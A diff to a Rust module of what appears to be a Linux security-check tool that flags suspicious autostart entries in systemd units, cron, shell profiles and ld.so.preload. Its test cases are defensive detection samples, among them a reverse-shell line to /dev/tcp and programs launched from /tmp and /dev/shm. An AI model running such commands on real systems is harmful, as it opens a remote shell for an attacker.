@@ -1,12 +1,12 @@
-//! What starts by itself: desktop entries, the user's units, cron, and lines of shell profiles that fetch
-//! something.
+//! What starts by itself: desktop entries, the user's units, cron, and of shell profiles, the system's own units
+//! and preloaded libraries what no package puts there.
 
-use super::setting;
+use super::setting_of;
 use crate::linux::{FileText, MachineLook};
 use crate::{Finding, FindingKind, Verdict, hide_in_command};
 
 /// Folders in which anybody can put a program.
-const STRANGE_FOLDERS: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];
+pub(super) const STRANGE_FOLDERS: [&str; 3] = ["/tmp/", "/var/tmp/", "/dev/shm/"];
 
 /// Words after which comes what is run.
 const RUNNERS: [&str; 16] = [
@@ -17,6 +17,12 @@ const RUNNERS: [&str; 16] = [
 /// Entries of each kind that are named.
 const MAX_ENTRIES: usize = 24;
 
+/// Files of a folder that are looked into for what is strange: a desktop has some dozens.
+const MAX_PARTS: usize = 200;
+
+/// Folders of libraries that packages bring.
+const LIBRARIES: [&str; 3] = ["/usr/lib/", "/lib/", "/usr/$LIB/"];
+
 const PROFILES: [&str; 5] = [".profile", ".bash_profile", ".bashrc", ".zshrc", ".xprofile"];
 
 pub(super) fn collect(look: &MachineLook) -> Vec<Finding> {
@@ -24,17 +30,19 @@ pub(super) fn collect(look: &MachineLook) -> Vec<Finding> {
     found.extend(user_units(look));
     found.extend(cron(look));
     found.extend(profiles(look));
+    found.extend(system_units(look));
+    found.extend(preloaded(look));
     found
 }
 
 fn entry(look: &MachineLook, place: &str, name: &str, command: &str) -> Finding {
-    let verdict = if is_strange(command) { Verdict::Broken } else { Verdict::Fine };
+    let verdict = if command_is_strange(command) { Verdict::Broken } else { Verdict::Fine };
     // Hidden as in a command: which of its options take a secret is known there alone.
     look.line(FindingKind::Autostart, verdict, [place, name, &hide_in_command(command.split_whitespace())])
 }
 
 /// Whether a command is none that a package or a person starts with the computer.
-fn is_strange(command: &str) -> bool {
+pub fn command_is_strange(command: &str) -> bool {
     runs_from_elsewhere(command) || fetches_and_runs(command)
 }
 
@@ -66,8 +74,8 @@ fn desktop_entries(look: &MachineLook) -> Vec<Finding> {
             look.names(&folder).into_iter().filter(|name| name.ends_with(".desktop")).take(MAX_ENTRIES)
         {
             let text = look.text(&format!("{folder}/{name}"));
-            let hidden = setting(&text, "Hidden") == Some("true");
-            if let Some(command) = setting(&text, "Exec").filter(|_| !hidden) {
+            let hidden = setting_of(&text, "Hidden") == Some("true");
+            if let Some(command) = setting_of(&text, "Exec").filter(|_| !hidden) {
                 found.push(entry(look, "XDG", &name, command));
             }
         }
@@ -80,7 +88,7 @@ fn user_units(look: &MachineLook) -> Vec<Finding> {
     let units = look.names(&folder).into_iter().filter(|name| name.ends_with(".service")).take(MAX_ENTRIES);
     let of_unit = |name: String| {
         let text = look.text(&format!("{folder}/{name}"));
-        setting(&text, "ExecStart").map(|command| entry(look, "systemd", &name, command))
+        setting_of(&text, "ExecStart").map(|command| entry(look, "systemd", &name, command))
     };
     units.filter_map(of_unit).collect()
 }
@@ -106,27 +114,65 @@ fn cron(look: &MachineLook) -> Vec<Finding> {
     found
 }
 
-/// The lines of a crontab, in which so many fields come before the command (crontab(5)).
+/// Of the system's own units only what is strange: the rest is its packages' and its administrator's business.
+fn system_units(look: &MachineLook) -> Vec<Finding> {
+    let folder = "/etc/systemd/system";
+    let units = look.names(folder).into_iter().filter(|name| name.ends_with(".service")).take(MAX_PARTS);
+    let of_unit = |name: String| {
+        let text = look.text(&format!("{folder}/{name}"));
+        let commands = text.lines().filter_map(|line| line.trim().strip_prefix("ExecStart")?.split_once('='));
+        // The signs before a command say how it is run (systemd.service(5)).
+        let mut commands =
+            commands.map(|(_, command)| command.trim_start_matches([' ', '-', '@', '+', '!', ':']));
+        commands
+            .find(|command| command_is_strange(command))
+            .map(|command| entry(look, "systemd", &name, command))
+    };
+    units.filter_map(of_unit).collect()
+}
+
+/// Libraries that are loaded into every program, from where no package puts them.
+fn preloaded(look: &MachineLook) -> Vec<Finding> {
+    let path = "/etc/ld.so.preload";
+    let text = look.text(path);
+    let lines =
+        text.lines().filter(|line| !line.starts_with('#')).flat_map(|line| line.split([' ', '\t', ':']));
+    let strange =
+        |library: &&str| !library.is_empty() && !LIBRARIES.iter().any(|folder| library.starts_with(folder));
+    let of_library =
+        |library: &str| look.line(FindingKind::Autostart, Verdict::Broken, ["ld.so", path, library]);
+    lines.filter(strange).take(MAX_ENTRIES).map(of_library).collect()
+}
+
 fn cron_lines(look: &MachineLook, place: &str, text: &str, fields: usize) -> Vec<Finding> {
+    cron_commands(text, fields)
+        .take(MAX_ENTRIES)
+        .map(|command| entry(look, "cron", place, &command))
+        .collect()
+}
+
+/// The commands of a crontab, in which so many fields come before them (crontab(5)): five in a user's own, six in
+/// the system's.
+pub fn cron_commands(text: &str, fields: usize) -> impl Iterator<Item = String> {
     let is_entry =
         |line: &&str| line.starts_with(|first: char| first.is_ascii_digit() || "*@".contains(first));
-    let lines = text.lines().map(str::trim).filter(is_entry).take(MAX_ENTRIES);
-    let of_line = |line: &str| {
+    let of_line = move |line: &str| {
         let words: Vec<&str> = line.split_whitespace().collect();
-        let before = if line.starts_with('@') { fields - 4 } else { fields };
-        let command = words.get(before..)?.join(" ");
-        Some(entry(look, "cron", place, &command))
+        let before = if line.starts_with('@') { fields.saturating_sub(4) } else { fields };
+        words.get(before..).filter(|command| !command.is_empty()).map(|command| command.join(" "))
     };
-    lines.filter_map(of_line).collect()
+    text.lines().map(str::trim).filter(is_entry).filter_map(of_line)
 }
 
 /// Of shell profiles only what fetches and runs something: the rest is the person's own business.
 fn profiles(look: &MachineLook) -> Vec<Finding> {
     let own = PROFILES.into_iter().filter_map(|name| look.in_home(name));
+    let parts = look.names("/etc/profile.d").into_iter().take(MAX_PARTS);
+    let parts = parts.map(|name| format!("/etc/profile.d/{name}"));
     let mut found = Vec::new();
-    for path in own.chain(["/etc/profile".to_owned(), "/etc/bash.bashrc".to_owned()]) {
+    for path in own.chain(["/etc/profile".to_owned(), "/etc/bash.bashrc".to_owned()]).chain(parts) {
         let text = look.text(&path);
-        let strange = |line: &&str| !line.starts_with('#') && is_strange(line);
+        let strange = |line: &&str| !line.starts_with('#') && command_is_strange(line);
         for line in text.lines().map(str::trim).filter(strange).take(MAX_ENTRIES) {
             found.push(entry(look, "shell", &path, line));
         }
@@ -139,7 +185,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_nobody_starts_with_the_computer_is_strange() {
+    fn what_nobody_starts_with_the_computer_command_is_strange() {
         for command in [
             "/tmp/x",
             "sh -c /dev/shm/.a",
@@ -148,7 +194,7 @@ mod tests {
             "/home/anna/.cache/.x/run",
             "bash -i >& /dev/tcp/1.2.3.4/5",
         ] {
-            assert!(is_strange(command), "{command}");
+            assert!(command_is_strange(command), "{command}");
         }
         for command in [
             "/usr/bin/nm-applet",
@@ -158,7 +204,7 @@ mod tests {
             "export TMPDIR=/tmp/me",
             "test -x /usr/sbin/anacron",
         ] {
-            assert!(!is_strange(command), "{command}");
+            assert!(!command_is_strange(command), "{command}");
         }
     }
 }
